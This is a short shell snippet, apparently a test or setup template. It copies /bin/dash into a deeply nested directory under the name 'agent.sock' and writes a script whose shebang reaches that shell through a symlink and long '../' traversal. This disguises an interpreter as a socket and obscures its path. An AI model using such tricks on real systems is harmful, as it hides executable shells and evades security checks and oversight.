D=d; for i in $(seq 30); do D=$D/d; done; mkdir -p $D; ln -s $D L
UP=../../../../../../../../../../../..
P=d; for i in $(seq 18); do P=$P/d; done
mkdir -p $P@OWNER@; cp /bin/dash $P@OWNER@/agent.sock
printf '#!L/%s@OWNER@/agent.sock\n' $UP > bot; cat bot.sh >> bot; chmod 755 bot $P@OWNER@/agent.sock
